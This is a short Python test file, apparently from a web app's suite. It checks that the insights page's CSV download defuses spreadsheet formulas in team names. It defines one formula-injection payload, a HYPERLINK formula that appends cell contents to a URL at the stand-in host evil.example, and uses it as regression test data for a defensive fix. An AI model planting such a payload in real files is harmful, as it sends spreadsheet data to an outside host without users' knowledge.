"""Issue #11, leak 9: the insights page's CSV download defuses spreadsheet formulas."""

from __future__ import annotations

import csv
import io

from lessonloop.people.models import Team
from lessonloop.store.engine import Database
from tests.factories import failure
from tests.web.conftest import Browser

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Payments")'


def test_the_insights_csv_defuses_team_names(as_ana: Browser, app_db: Database) -> None:
    with app_db.unit(actor="test") as s:
        failure(s, team="Payments", title="Broke the nightly export", reporter="ana")
        team = s.query(Team).filter_by(name="Payments").one()
        team.name = EVIL  # ana stays its lead
    response = as_ana.get("/insights.csv")
    assert response.status_code == 200
    teams = [row["team"] for row in csv.DictReader(io.StringIO(response.text))]
    assert teams == ["'" + EVIL, "(all teams)"]
